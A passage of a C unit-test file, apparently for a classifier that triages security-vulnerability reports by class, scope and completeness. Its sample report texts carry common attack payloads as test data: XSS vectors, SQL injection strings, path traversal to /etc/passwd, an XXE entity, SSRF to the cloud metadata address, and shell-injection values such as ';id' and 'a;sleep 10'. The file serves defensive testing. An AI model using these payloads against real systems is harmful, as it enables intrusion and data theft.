    report_destroy(&r);
}

static void test_json_missing_order_and_bad_utf8(void **state)
{
    struct report r;
    struct triage t;
    json_t *j, *missing;

    (void) state;
    report_make(&r, "eve@example.org", "caf\xc3 \xff XSS", "XSS somewhere.");
    classify(&r, "eve@example.org", NULL, &t);
    j = triage_to_json(&r, &t, "bad\xffname.eml");
    assert_non_null(j);
    assert_non_null(json_string_value(json_object_get(j, "subject")));
    assert_non_null(json_string_value(json_object_get(j, "file")));
    missing = json_object_get(j, "missing");
    assert_int_equal(json_array_size(missing), 4);
    assert_string_equal(json_string_value(json_array_get(missing, 0)), "target");
    assert_string_equal(json_string_value(json_array_get(missing, 1)), "impact");
    assert_string_equal(json_string_value(json_array_get(missing, 2)), "steps");
    assert_string_equal(json_string_value(json_array_get(missing, 3)), "poc");
    json_decref(j);
    triage_free(&t);
    report_destroy(&r);
}

static void test_target_by_version(void **state)
{
    static const struct {
	const char *text;
	int     target;
    }       cases[] = {
	{"The CallHub Android app 5.1 stores the token in clear.", 1},
	{"Tested against version 3.2.1 of the dialer.", 1},
	{"The v2.4 API leaks the key.", 1},
	{"I give it 3.5 stars.", 0},
	{"No version given at all.", 0},
    };
    struct report r;
    struct triage t;
    size_t  i;

    (void) state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	report_make(&r, "eve@example.org", "Report", cases[i].text);
	classify(&r, "eve@example.org", NULL, &t);
	if (t.complete[ITEM_TARGET] != cases[i].target)
	    fail_msg("\"%s\": target %d", cases[i].text, t.complete[ITEM_TARGET]);
	triage_free(&t);
	report_destroy(&r);
    }
}

static void test_steps_and_poc(void **state)
{
    struct report r;
    struct triage t;

    (void) state;
    report_make(&r, "eve@example.org", "CSRF",
		"CSRF on the settings page.\n  1) log in\n  2) open the attached page\n");
    classify(&r, "eve@example.org", NULL, &t);
    assert_true(t.complete[ITEM_STEPS]);
    assert_false(t.complete[ITEM_POC]);
    triage_free(&t);

    /* An attachment is a proof of concept. */
    r.attachments = calloc(1, sizeof(*r.attachments));
    r.n_attachments = 1;
    r.attachments[0].filename = strdup("");
    r.attachments[0].content_type = strdup("text/html");
    classify(&r, "eve@example.org", NULL, &t);
    assert_true(t.complete[ITEM_POC]);
    triage_free(&t);
    report_destroy(&r);

    report_make(&r, "eve@example.org", "Open redirect",
		"Open redirect. First log in, then visit /go?url=//evil.example.\n"
		"GET /go?url=//evil.example HTTP/1.1");
    classify(&r, "eve@example.org", NULL, &t);
    assert_string_equal(first(&t.classes), "open_redirect");
    assert_true(t.complete[ITEM_STEPS]);
    assert_true(t.complete[ITEM_POC]);
    assert_int_equal(t.severity, SEV_LOW);
    triage_free(&t);
    report_destroy(&r);

    /*
     * An HTTP request block shown is one toward steps: with a word of
     * what was done it is steps, alone (a request file attached) a poc.
     */
    report_make(&r, "eve@example.org", "IDOR",
		"The delete endpoint trusts the id, I removed list 90 and then 91:\n\n"
		"DELETE /v2/lists/91/ HTTP/1.1\nHost: api.example.org\n");
    r.http_requests = 1;
    classify(&r, "eve@example.org", NULL, &t);
    assert_true(t.complete[ITEM_STEPS]);
    triage_free(&t);
    report_destroy(&r);

    report_make(&r, "eve@example.org", "Race",
		"Coupon race. With Burp Repeater in parallel groups the code was applied 4 times:\n\n"
		"POST /v1/coupon HTTP/1.1\nHost: api.example.org\n");
    r.http_requests = 1;
    classify(&r, "eve@example.org", NULL, &t);
    assert_true(t.complete[ITEM_STEPS]);
    triage_free(&t);
    report_destroy(&r);

    report_make(&r, "eve@example.org", "XXE",
		"XXE in the RPC endpoint, request in the attached file.\n"
		"[attachment: r.txt]\nPOST /rpc HTTP/1.1\nHost: api.example.org\n");
    r.http_requests = 1;
    classify(&r, "eve@example.org", NULL, &t);
    assert_false(t.complete[ITEM_STEPS]);
    assert_true(t.complete[ITEM_POC]);
    triage_free(&t);
    report_destroy(&r);
}

static void test_vocabularies(void **state)
{
    (void) state;
    assert_true(triage_class_valid("xss"));
    assert_true(triage_class_valid("other"));
    assert_false(triage_class_valid("XSS"));
    assert_false(triage_class_valid("sql"));
    assert_false(triage_class_valid(NULL));
    assert_string_equal(triage_severity_name(SEV_NONE), "none");
    assert_string_equal(triage_severity_name(SEV_CRITICAL), "critical");
    assert_null(triage_severity_name(SEV_UNSET));
    assert_int_equal(triage_severity_parse("high"), SEV_HIGH);
    assert_int_equal(triage_severity_parse("Medium"), SEV_MEDIUM);
    assert_int_equal(triage_severity_parse("urgent"), SEV_UNSET);
    assert_int_equal(triage_severity_parse(NULL), SEV_UNSET);
    assert_string_equal(triage_kind_names[TRIAGE_AUTOMATED], "automated");
    assert_string_equal(triage_scope_names[SCOPE_UNCLEAR], "unclear");
    assert_string_equal(triage_item_names[ITEM_POC], "poc");
    assert_string_equal(triage_conduct_names[8], "public_disclosure");
    assert_null(triage_conduct_names[9]);
    assert_null(triage_class_names[17]);
}

 /*
  * Bad input is normal: random bytes, a huge text, repeated words.
  */
static const struct triage_evidence *ev_find(const struct triage *,
				             enum triage_ev_section, const char *);
static void ev_points_at(const struct report *, const struct triage_evidence *,
			         const char *);

static void test_hostile_input(void **state)
{
    struct report r;
    struct triage t;
    json_t *j;
    char   *big;
    size_t  i, n = 3 * 1024 * 1024;
    unsigned seed = 12345;
    int     round;

    (void) state;
    for (round = 0; round < 20; round++) {
	char    subj[256], text[4096];

	for (i = 0; i < sizeof(subj) - 1; i++) {
	    seed = seed * 1103515245 + 12345;
	    subj[i] = (char) ((seed >> 16) % 255 + 1);
	}
	subj[sizeof(subj) - 1] = 0;
	for (i = 0; i < sizeof(text) - 1; i++) {
	    seed = seed * 1103515245 + 12345;
	    text[i] = (char) ((seed >> 16) % 255 + 1);
	}
	text[sizeof(text) - 1] = 0;
	report_make(&r, subj, subj, text);
	report_add_url(&r, "https://");
	report_add_url(&r, "http://@@@:99999");
	report_add_url(&r, "https://[::1]:8080/x");
	classify(&r, subj, NULL, &t);
	j = triage_to_json(&r, &t, subj);
	assert_non_null(j);
	json_decref(j);
	triage_free(&t);
	report_destroy(&r);
    }

    /* 3 MiB of a negated keyword: bounded work, still an answer. */
    big = malloc(n + 1);
    assert_non_null(big);
    for (i = 0; i < n; i++)
	big[i] = "not xss "[i % 8];
    big[n] = 0;
    report_make(&r, "eve@example.org", "x", NULL);
    r.text.max_bytes = n + 1;
    assert_int_equal(sbuf_puts(&r.text, big), 0);
    classify(&r, "eve@example.org", NULL, &t);
    assert_false(has(&t.classes, "xss"));
    triage_free(&t);
    report_destroy(&r);

    /*
     * 1 MiB (what the classifier reads) where every other byte is a run
     * of white space to fold (the most the flowing text's offset map can
     * hold), then a finding: it is found, at its offset in the text as
     * written.
     */
    for (i = 0; i + 64 < 1024 * 1024; i++)
	big[i] = "a \t\n b\t\t c  \n xy"[i % 16];
    (void) strcpy(big + i, "\n\nA stored  xss\n in the wiki.");
    report_make(&r, "eve@example.org", "x", NULL);
    r.text.max_bytes = n + 1;
    assert_int_equal(sbuf_puts(&r.text, big), 0);
    classify(&r, "eve@example.org", NULL, &t);
    assert_true(has(&t.classes, "xss"));
    ev_points_at(&r, ev_find(&t, EV_CLASS, "xss"), "stored  xss");
    triage_free(&t);
    report_destroy(&r);

    /* Nothing but white space. */
    memset(big, ' ', n);
    for (i = 0; i < n; i += 97)
	big[i] = '\n';
    report_make(&r, "eve@example.org", "  \t  ", NULL);
    r.text.max_bytes = n + 1;
    assert_int_equal(sbuf_puts(&r.text, big), 0);
    classify(&r, "eve@example.org", NULL, &t);
    assert_int_equal(t.complete[ITEM_STEPS], 0);
    triage_free(&t);
    report_destroy(&r);
    free(big);
}


/* ------------------------------------------------- rules and evidence */

#define RULES_DIR TEST_DATA_DIR "/rules/"

 /*
  * Run one text through the built-in rules with its URLs extracted by
  * hand (as the parser would).
  */
static void judge(struct triage *t, struct report *r, const char *subject,
		          const char *text, const struct sm_config *cfg)
{
    const char *cp = text;

    report_make(r, "reporter@researcher.example", subject, text);

    /* The URLs, as the parser's extraction would list them. */
    while ((cp = strstr(cp, "http")) != NULL) {
	size_t  n = strcspn(cp, " \n\t\"'<>");

	if (n > 8 && strncmp(cp, "http", 4) == 0 && strstr(cp, "://") == cp + (cp[4] == 's' ? 5 : 4)) {
	    char   *u = strndup(cp, n);

	    assert_non_null(u);
	    while (n > 0 && strchr(".,;:)", u[n - 1]) != NULL)
		u[--n] = 0;
	    (void) strlist_add_unique(&r->urls, u);
	    free(u);
	}
	cp += n > 0 ? n : 1;
    }
    triage_init(t);
    assert_int_equal(triage_classify(NULL, r, "reporter@researcher.example", cfg, t), 0);
}

/* ev_find - the first evidence entry of a decision, or NULL */

static const struct triage_evidence *ev_find(const struct triage *t,
				             enum triage_ev_section sec, const char *key)
{
    size_t  i;

    for (i = 0; i < t->n_evidence; i++)
	if (t->evidence[i].section == sec && strcmp(t->evidence[i].key, key) == 0)
	    return (&t->evidence[i]);
    return (NULL);
}

/* ev_points_at - the entry's offset is where want starts in the text */

static void ev_points_at(const struct report *r, const struct triage_evidence *ev,
			         const char *want)
{
    const char *text = sbuf_str(&r->text);
    const char *at;

    assert_non_null(ev);
    assert_true(ev->offset >= 0);
    at = strstr(text, want);
    assert_non_null(at);
    if (!(ev->offset >= at - text - 40 && ev->offset <= at - text + (long) strlen(want)))
	fail_msg("offset %ld is not at \"%s\" (%ld)", ev->offset, want, (long) (at - text));
    assert_non_null(ev->match);
    assert_true(strlen(ev->match) <= TRIAGE_EVIDENCE_MATCH_MAX);
}

static void test_class_wording_and_payloads(void **state)
{
    static const struct {
	const char *text;
	const char *cls;
    }       cases[] = {
	{"Hi, I could read other agents' recordings by changing the id in "
	"/api/v1/recordings/1041 to 1042.", "auth"},
	{"There is no rate limit on login: I could try unlimited passwords "
	"against one account.", "auth"},
	{"The contact name field keeps <svg onload=alert(document.domain)> and "
	"runs it for every agent.", "xss"},
	{"Search box: entering ' OR 1=1-- returns all the rows of the table.", "sqli"},
	{"The greeting field is rendered server side: {{7*7}} shows 49.", "rce"},
	{"The export takes a file name: ?file=../../../../etc/passwd gives the "
	"passwd file.", "path_traversal"},
	{"Upload this XML: <!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>"
	"<foo>&xxe;</foo>", "xxe"},
	{"The ping tool runs ;id and answers uid=33(www-data) gid=33(www-data).", "rce"},
	{"The login page at https://app.callhub.io loads its scripts over "
	"plain http, mixed content.", "mixed_content"},
	{"After login, https://app.callhub.io/login?next=https://evil.com sends "
	"the user to evil.com: an open redirect.", "open_redirect"},
	{"i am find the sql injection in login page, please fix it fast", "sqli"},
	{"Stored cross-site scripting in the survey builder.", "xss"},
	{"The app sends the password over plain http so anybody on the same "
	"network (man in the middle) can read it.", "mitm"},
	{"The PDF export fetches any URL we give it, e.g. "
	"http://169.254.169.254/latest/meta-data/", "ssrf"},
	{"Clicking https://app.callhub.io/find?term=%3Cscript%3Ealert(1)%3C/script%3E "
	"pops an alert: the term is echoed without escaping.", "xss"},
	{"Sending id=1' UNION SELECT password FROM users-- first gave a 500 error, "
	"then the rows: SQL injection.", "sqli"},
	{"No rate limit for newsletter e-mails: I filled a colleague's inbox "
	"with 500 of them in a minute, e-mail bombing.", "other"},
	{"The SMS campaign lets anyone pick any sender ID, so texts can "
	"impersonate a bank.", "other"},
	{"With a breached password list I logged in using leaked credentials to "
	"three accounts; two-factor is not enforced.", "auth"},
	{"The reply carries a redirect to https://elsewhere.example/ when the Host "
	"header is changed, so the links redirect visitors away.", "open_redirect"},
    };
    struct report r;
    struct triage t;
    size_t  i;

    (void) state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	judge(&t, &r, "Security report", cases[i].text, NULL);
	if (strcmp(first(&t.classes), cases[i].cls) != 0)
	    fail_msg("case %zu: want %s, got %s", i, cases[i].cls, first(&t.classes));

	/* Every class kept has evidence that points into the text. */
	assert_non_null(ev_find(&t, EV_CLASS, cases[i].cls));
	triage_free(&t);
	report_destroy(&r);
    }
}

 /*
  * Classes named by what was seen rather than by the type's name (own
  * wording): an id changed and someone else's data, a worker kept busy,
  * resources over http://, a missing header whatever its impact, text
  * shown as given, secrets found by decompiling.
  */
static void test_class_by_description(void **state)
{
    static const struct {
	const char *text;
	const char *cls;		/* "none": no class at all */
	const char *scope;		/* NULL: not checked */
    }       cases[] = {
	{"When I edited the invoice id in the URL the PDF I got belongs to another company.", "auth", NULL},
	{"Uploading a 3 GB spreadsheet keeps the import worker busy and stalls every other job.", "dos", NULL},
	{"The signup page pulls a font and a tracking script over http:// instead of https.", "mixed_content", NULL},
	{"Possible man-in-the-middle: missing HSTS header on the login host.", "missing_headers", NULL},
	{"The error page displays whatever text is put in the q parameter, as plain text.", "content_spoofing", NULL},
	{"After decompiling the Android app with jadx I found the live Stripe key.", "info_disclosure", NULL},
	{"The admin password of the router is written on a sticky note at the front desk.", "info_disclosure", NULL},
	{"I plugged into a free network jack in the lobby and reached the build server.", "other", NULL},
	{"A link put in the team name is injected into the invitation emails everyone gets.", "content_spoofing", NULL},

	/*
	 * Round 2: each class as different people tell it without its
	 * name (researchers and customers, terse and wordy, non-native,
	 * other languages), with the scope that follows; and near misses
	 * (a customer's question, a wish, a warning) that are no finding.
	 */
	/* auth: IDOR in prose */
	{"When I change the number at the end of "
	 "https://app.example.org/api/v2/contacts/881/ to 880 I get a contact "
	 "of someone else's account.",
	 "auth", "in"},
	{"I replaced my organisation id with 1203 in the request to "
	 "https://api.example.org/v1/orgs/1202/billing and got the billing "
	 "details of that other company.",
	 "auth", "in"},
	{"Editing the campaign number in the address bar shows campaigns of a "
	 "different customer: https://app.example.org/campaign/5501/",
	 "auth", "in"},
	{"Hi, if you put another number in https://app.example.org/invoice/3321 "
	 "you see the invoice of other clients, with their address.",
	 "auth", "in"},
	{"The endpoint https://api.example.org/v1/lists/77/ does not check that "
	 "the list belongs to the user who asks: any list id returns its phone "
	 "numbers.",
	 "auth", "in"},
	{"Using account A's session I could fetch account B's recordings from "
	 "https://app.example.org/recordings/9912/ just by knowing the id.",
	 "auth", "in"},
	{"bonjour, en changeant l'identifiant dans l'URL "
	 "https://app.example.org/report/44 je vois les rapports d'une autre "
	 "organisation.",
	 "auth", "in"},
	{"Hallo, wenn man die ID in https://app.example.org/notes/12 ändert, "
	 "sieht man die Notizen eines anderen Kunden.",
	 "auth", "in"},
	{"Hola, cambiando el id en https://app.example.org/contacts/55 se "
	 "pueden ver los contactos de otra cuenta.",
	 "auth", "in"},
	{"Ola, alterando o id na URL https://app.example.org/contacts/55 "
	 "consigo ver os dados de outro cliente.",
	 "auth", "in"},
	{"The API at https://api.example.org/v1/agents/ returns agents of any "
	 "team when the team query parameter is set to their team id, not only "
	 "mine.",
	 "auth", "in"},
	{"I could download exports that other organisations created, "
	 "https://app.example.org/exports/2291/download, by guessing the "
	 "sequential number.",
	 "auth", "in"},
	/* auth: brute force / lockout */
	{"There is no limit on failed logins at https://app.example.org/login/ "
	 "- I tried thousands of passwords on my own account and was never "
	 "locked out.",
	 "auth", "in"},
	{"The login form at https://app.example.org/login accepts unlimited "
	 "password attempts, no captcha and no lockout.",
	 "auth", "in"},
	{"I sent 5000 wrong passwords to https://app.example.org/login/ and the "
	 "account never got locked.",
	 "auth", "in"},
	{"The 6 digit OTP on https://app.example.org/verify can be guessed, it "
	 "allows unlimited tries.",
	 "auth", "in"},
	{"No account lockout after many failed login attempts on "
	 "https://app.example.org/login/.",
	 "auth", "in"},
	{"Password reset code at https://app.example.org/reset is only 4 digits "
	 "and there is no attempt limit, so you can brute force it.",
	 "auth", "in"},
	/* auth: sessions */
	{"After I log out of https://app.example.org the old session cookie "
	 "still works when I replay it.",
	 "auth", "in"},
	{"Logging out does not invalidate the session token on "
	 "https://app.example.org; the copied cookie is accepted afterwards.",
	 "auth", "in"},
	{"I changed my password on https://app.example.org but my phone stayed "
	 "logged in for days.",
	 "auth", "in"},
	{"Changing the password on https://app.example.org does not log out "
	 "other devices.",
	 "auth", "in"},
	{"Session cookies of https://app.example.org never expire, even after "
	 "logout.",
	 "auth", "in"},
	/* auth: 2fa */
	{"Support agreed to disable two-factor authentication on an account "
	 "after I only gave them the email address.",
	 "auth", NULL},
	{"The 2FA step on https://app.example.org can be skipped by going "
	 "straight to /dashboard after the password page.",
	 "auth", "in"},
	{"The OTP check on https://app.example.org/verify accepts 000000 for "
	 "every account.",
	 "auth", "in"},
	{"Your helpdesk removed 2FA from my colleague's account over the phone "
	 "without any verification.",
	 "auth", NULL},
	{"I can switch off MFA for an account without entering the current code "
	 "at https://app.example.org/settings/security.",
	 "auth", "in"},
	/* auth: roles */
	{"An agent account can open https://app.example.org/admin/users and "
	 "create new admins.",
	 "auth", "in"},
	{"A user with the viewer role can delete campaigns through the API "
	 "https://api.example.org/v1/campaigns/5/.",
	 "auth", "in"},
	{"Agents are able to change the billing plan on https://app.example.org "
	 "although only owners should.",
	 "auth", "in"},
	{"A read-only member can edit the team settings by sending the PATCH "
	 "request directly to https://api.example.org/v1/team/.",
	 "auth", "in"},
	/* auth: reset links / leaked creds */
	{"The password reset link from https://app.example.org/forgot can be "
	 "used many times and never expires.",
	 "auth", "in"},
	{"The password reset token is returned in the response of "
	 "https://app.example.org/api/forgot, so anyone can reset any account.",
	 "auth", "in"},
	{"The reset link at https://app.example.org/reset/ stays valid after "
	 "the password was changed.",
	 "auth", "in"},
	/* other */
	{"Sending the transfer request to "
	 "https://app.example.org/credits/transfer twenty times simultaneously "
	 "moved the same credit twice.",
	 "other", "in"},
	{"I fired 30 parallel requests at "
	 "https://app.example.org/api/gift/redeem and the gift card was applied "
	 "12 times.",
	 "other", "in"},
	{"The promo code at https://app.example.org/billing can be redeemed "
	 "more than once if you click fast in two tabs.",
	 "other", "in"},
	{"On https://app.example.org/billing/checkout I changed the price in "
	 "the request to 0.01 and the plan was upgraded.",
	 "other", "in"},
	{"Setting a negative quantity of SMS credits on "
	 "https://app.example.org/buy gives money back to the balance.",
	 "other", "in"},
	{"Your domain example.org has no DMARC record so anyone can send mail "
	 "as ceo@example.org.",
	 "other", NULL},
	{"I could spoof emails from support@example.org because the SPF is ~all.",
	 "other", NULL},
	{"The subdomain old.example.org points to a Heroku app that is "
	 "unclaimed, so anyone can claim it and host content.",
	 "other", "in"},
	/* stack trace */
	{"Putting a quote in https://app.example.org/search?q=' makes the "
	 "server answer with a 500 and a Java exception listing.",
	 "stack_trace", "out"},
	{"https://api.example.org/v1/users/abc returns 500 and prints the whole "
	 "stack trace with file paths.",
	 "stack_trace", "out"},
	{"Sqli found! https://app.example.org/list?id=1' gives error 500 "
	 "internal server error.",
	 "stack_trace", "out"},
	{"The Django debug page is on at https://staging.example.org/nope/ and "
	 "shows the settings.",
	 "stack_trace", "out"},
	{"Information leakage: the page https://app.example.org/x?y=[ prints a "
	 "traceback with the source lines.",
	 "stack_trace", "out"},
	{"Bonjour, la page https://app.example.org/z renvoie une erreur 500 "
	 "avec la trace complète.",
	 "stack_trace", "out"},
	/* content spoofing */
	{"As an admin I can write any text in the banner shown to agents, e.g. "
	 "a fake notice asking them to call a number.",
	 "content_spoofing", "out"},
	{"Text injection on "
	 "https://example.org/404/Your-account-is-blocked-call-us - the path is "
	 "shown as the page message.",
	 "content_spoofing", "in"},
	{"The workspace owner can set arbitrary HTML in the invite email, "
	 "including a fake login link.",
	 "content_spoofing", "out"},
	{"The error message on "
	 "https://app.example.org/login?error=Your+session+expired+visit+evil.example "
	 "shows any text we pass.",
	 "content_spoofing", "in"},
	/* info disclosure */
	{"https://app.example.org/.env is readable and holds the database "
	 "password and AWS keys.",
	 "info_disclosure", "in"},
	{"The .git folder is exposed at https://www.example.org/.git/ so the "
	 "whole source can be downloaded.",
	 "info_disclosure", "in"},
	{"A backup file https://www.example.org/backup.zip with a database dump "
	 "is publicly downloadable.",
	 "info_disclosure", "in"},
	{"The bucket callhub-exports behind https://static.example.org/ is "
	 "world-readable and lists customer exports.",
	 "info_disclosure", "in"},
	/* dos */
	{"Sending a 50 MB JSON body to https://api.example.org/v1/import "
	 "crashes the worker and the API goes down for minutes.",
	 "dos", "in"},
	{"A regex in the search of https://app.example.org/search takes 30 "
	 "seconds with aaaaaaaaaaaaaaaaaaaaaaaa!, ReDoS.",
	 "dos", "in"},
	{"One request with depth=100000 to https://api.example.org/graphql took "
	 "the whole API down.",
	 "dos", "in"},
	/* mitm */
	{"The the product Android app 3.2 does not validate the server "
	 "certificate, so I read all API traffic with a proxy.",
	 "mitm", "in"},
	{"The iOS app 5.1 trusts any certificate: I intercepted the login "
	 "without installing my CA.",
	 "mitm", "in"},
	{"The password reset token is sent over plain http to "
	 "http://links.example.org/reset?t=abc.",
	 "mitm", "in"},
	/* mixed content */
	{"https://app.example.org/login includes a script from "
	 "http://cdn.example.org/app.js, mixed content.",
	 "mixed_content", "in"},
	/* rce */
	{"The name field on https://app.example.org/templates is rendered by "
	 "Jinja: {{7*7}} prints 49 and {{config}} dumps the config.",
	 "rce", "in"},
	{"The export filename on https://app.example.org/export is passed to a "
	 "shell: name=a;sleep 10 delays the answer.",
	 "rce", "in"},
	{"I uploaded shell.php as an avatar at https://app.example.org/profile "
	 "and it executes on the server.",
	 "rce", "in"},
	{"The import at https://app.example.org/import unpickles our data, so a "
	 "crafted pickle runs commands.",
	 "rce", "in"},
	/* ssrf */
	{"The webhook URL on https://app.example.org/integrations makes your "
	 "server request http://169.254.169.254/latest/meta-data/.",
	 "ssrf", "in"},
	{"The image-from-URL feature on https://app.example.org/media fetches "
	 "internal hosts like http://10.0.0.5:8080/.",
	 "ssrf", "in"},
	/* xxe, path traversal */
	{"The SAML endpoint https://app.example.org/sso/acs parses a DOCTYPE "
	 "with an external entity and returns /etc/hostname.",
	 "xxe", "in"},
	{"https://app.example.org/download?file=..%2f..%2f..%2fetc%2fpasswd "
	 "returns the passwd file.",
	 "path_traversal", "in"},
	{"The attachment name on https://app.example.org/files lets me go "
	 "outside the upload directory with ../ sequences.",
	 "path_traversal", "in"},
	/* open redirect */
	{"https://app.example.org/logout?next=//evil.example sends the user to "
	 "any site after logout.",
	 "open_redirect", "in"},
	{"After login, "
	 "https://app.example.org/login?return=https://phish.example takes the "
	 "victim to my site.",
	 "open_redirect", "in"},
	/* csrf */
	{"The form on https://app.example.org/settings/email has no anti-CSRF "
	 "token, so my page can change a victim's e-mail.",
	 "csrf", "in"},
	{"A page on another site can make a logged-in user delete his campaigns "
	 "on https://app.example.org because the request carries no token.",
	 "csrf", "in"},
	/* xss */
	{"The campaign name on https://app.example.org/campaigns runs "
	 "javascript for every agent who opens it: \"><img src=x "
	 "onerror=alert(1)>",
	 "xss", "in"},
	{"XSS almacenado en https://app.example.org/notes con "
	 "<script>alert(1)</script>.",
	 "xss", "in"},
	{"Reflektiertes XSS auf "
	 "https://app.example.org/search?q=<svg/onload=alert(1)>.",
	 "xss", "in"},
	/* sqli */
	{"Inyección SQL en https://app.example.org/list?id=1 - con id=1 AND "
	 "SLEEP(5) la respuesta tarda 5 segundos.",
	 "sqli", "in"},
	{"A injeção de SQL em https://app.example.org/list?id=1' OR '1'='1 "
	 "retorna todos os contatos.",
	 "sqli", "in"},
	/* scope: third parties */
	{"Stripe's dashboard lets a restricted key list all customers; the "
	 "product uses Stripe so you are affected.",
	 "none", "out"},
	{"There is a stored XSS on the events page of a "
	 "customer's own site built with your widget.",
	 "xss", "out"},
	{"An open bucket at https://callhub-backup.s3.amazonaws.com/ belongs to "
	 "nobody I can tell.",
	 "info_disclosure", "out"},
	/* near misses: no class */
	{"Please enable two-factor authentication on my account, I can't find "
	 "the setting.",
	 "none", NULL},
	{"I forgot my password and the reset link does not arrive, can you help?",
	 "none", NULL},
	{"We are a customer of another company that uses the product; how do I "
	 "export my contacts?",
	 "none", NULL},
	{"Our agents can see the campaign script on the call screen, how do we "
	 "hide it?",
	 "none", NULL},
	{"My session keeps logging me out after 5 minutes, is that normal?",
	 "none", NULL},
	{"Could you add a way to redeem coupons for annual plans?",
	 "none", NULL},
	/* non-native / terse auth */
	{"hello sir, i am change user id in "
	 "https://app.example.org/api/profile?uid=1002 and i am see other "
	 "person email and phone. please fix",
	 "auth", "in"},
	{"dear team when i put other id in https://app.example.org/contact/77 "
	 "it show me data not belong to me",
	 "auth", "in"},
	{"https://app.example.org/login no captcha, no lock, i try 10000 "
	 "password and still can try",
	 "auth", "in"},
	{"Brute force possible on https://app.example.org/login, no rate "
	 "limiting on login attempts.",
	 "auth", "in"},
	{"IDOR: GET https://api.example.org/v1/surveys/301 with my token "
	 "returns the survey of another workspace.",
	 "auth", "in"},
	{"Privilege issue: an agent can call the admin endpoint "
	 "https://api.example.org/v1/admin/export and receive all contacts.",
	 "auth", "in"},
	{"The invite API https://api.example.org/v1/invite lets a normal member "
	 "invite people as owner.",
	 "auth", "in"},
	{"I was able to access the dashboard https://app.example.org/dashboard "
	 "of other customer by only changing org_id cookie.",
	 "auth", "in"},
	{"The JWT from https://app.example.org is signed with alg none "
	 "accepted, so I can become any user.",
	 "auth", "in"},
	{"Logout at https://app.example.org does nothing server-side: the old "
	 "token keeps working for a week.",
	 "auth", "in"},
	{"Password change on https://app.example.org doesn't kill my sessions "
	 "on other devices.",
	 "auth", "in"},
	{"The OTP sent by SMS on https://app.example.org/verify never expires "
	 "and can be tried endlessly.",
	 "auth", "in"},
	{"Hallo Team, bei https://app.example.org/login gibt es keine Sperre "
	 "nach falschen Passwörtern; ich habe 500 Versuche gemacht.",
	 "auth", "in"},
	{"Priviet, na https://app.example.org/api/v1/calls/55 esli pomenyat id, "
	 "vidno zvonki drugogo klienta (another customer).",
	 "auth", "in"},
	/* other */
	{"Coupon WELCOME can be used again and again on "
	 "https://app.example.org/billing by different accounts of the same "
	 "person, unlimited free credit.",
	 "other", "in"},
	{"I got a refund bigger than the payment by editing the amount field in "
	 "the refund request at https://app.example.org/billing/refund.",
	 "other", "in"},
	{"Your SPF record for example.org is too permissive, anyone can send "
	 "emails from your domain.",
	 "other", NULL},
	{"SMS sender ID can be set to any name like \"BANK\" in the campaign "
	 "settings, so texts look like they come from the bank.",
	 "other", NULL},
	/* near misses: must not fire auth */
	{"Can you reset the password of my agent account? He left the company.",
	 "none", NULL},
	{"Hi, we would like to turn off two-factor for our team members, where "
	 "is the option?",
	 "none", NULL},
	{"I am locked out of my account after too many attempts, please unlock "
	 "it.",
	 "none", NULL},
	{"Our volunteers can see the script and the contact name, which is what "
	 "we want.",
	 "none", NULL},
	{"Thanks, I changed my password and logged out of all devices as you "
	 "suggested.",
	 "none", NULL},
	{"I'd like to know if you support SSO with Okta for our organisation.",
	 "none", NULL},
	{"Please move the numbers of our team to the other account of our "
	 "company.",
	 "none", NULL},
	/* warnings / hypotheticals */
	{"Please make sure that your login has a rate limit; many sites don't.",
	 "none", NULL},
	/* cross-class: the named class must stay on top */
	{"Stored XSS in https://app.example.org/notes: <img src=x "
	 "onerror=alert(document.cookie)> runs for agents of another "
	 "organisation who open the shared note.",
	 "xss", "in"},
	{"CSRF on https://app.example.org/settings/password: a page on my site "
	 "makes a logged-in user change the password, after which the session "
	 "still works for me.",
	 "csrf", "in"},
	{"SQL injection in https://app.example.org/list?id=1 UNION SELECT email "
	 "FROM users -- returns the users of other customers.",
	 "sqli", "in"},
	{"Template injection in https://app.example.org/templates: {{7*7}} "
	 "gives 49, and I could read the config of another organisation.",
	 "rce", "in"},
	{"SSRF in the webhook at https://app.example.org/hooks fetches "
	 "http://169.254.169.254/ and the metadata of the server.",
	 "ssrf", "in"},
	{"No rate limit on https://api.example.org/v1/export: 200 parallel "
	 "requests made the API unavailable for 10 minutes.",
	 "dos", "in"},
	{"Open redirect after logout: "
	 "https://app.example.org/logout?next=https://evil.com",
	 "open_redirect", "in"},
	{"The debug endpoint https://app.example.org/.env leaks the Stripe "
	 "secret key and database password.",
	 "info_disclosure", "in"},
	{"The the product Android app 4.1 disables certificate validation (a "
	 "TrustManager that accepts everything), so a MITM on public wifi reads "
	 "the session token.",
	 "mitm", "in"},
	/* near misses: must not fire */
	{"Our team is working in parallel on two campaigns, how can we split "
	 "the credits?",
	 "none", NULL},
	{"The error page says the campaign is paused, why?",
	 "none", NULL},
	{"I'm a volunteer and my account was locked after I forgot my password, "
	 "please help.",
	 "none", NULL},
	{"When I change the number of agents in the plan, the price is not "
	 "updated.",
	 "none", NULL},
	{"Can I put raw HTML in the email template of my own campaign?",
	 "none", NULL},
	{"Please log out all sessions of our former employee Tom.",
	 "none", NULL},
	{"Hello, is there a way to see which agent changed the contact number?",
	 "none", NULL},
	{"Our admins can create new agents but not new admins, how do we add an "
	 "owner?",
	 "none", NULL},
	/* stack trace told as SQLi or info leak */
	{"Possible SQL injection: adding a quote to "
	 "https://app.example.org/reports?sort=name' shows a Python exception "
	 "page with the query.",
	 "stack_trace", "out"},
	{"Information disclosure - https://api.example.org/v2/ping?x[]= returns "
	 "an internal server error with the full stack of the Laravel app.",
	 "stack_trace", "out"},
	{"The server crashes with a NullPointerException when I send an empty "
	 "JSON to https://api.example.org/v1/calls, trace attached.",
	 "stack_trace", "out"},
	{"https://app.example.org/oops shows the Werkzeug debugger with source "
	 "code lines.",
	 "stack_trace", "out"},
	/* content spoofing */
	{"The 404 page of https://www.example.org/ prints the path, so "
	 "/Please-call-+1-555-0100-to-verify shows that sentence to the visitor.",
	 "content_spoofing", "in"},
	{"A team admin can change the login page text of the workspace to any "
	 "message, like \"Our site moved to evil.example\".",
	 "content_spoofing", "out"},
	/* scope out: third parties, assets not ours */
	{"Reflected XSS on "
	 "https://help.freshdesk.com/search?q=<script>alert(1)</script>, the "
	 "help-desk vendor you use.",
	 "xss", "out"},
	{"The S3 bucket https://s3.amazonaws.com/some-bucket/ is public and has "
	 "a file that mentions your company.",
	 "info_disclosure", "out"},
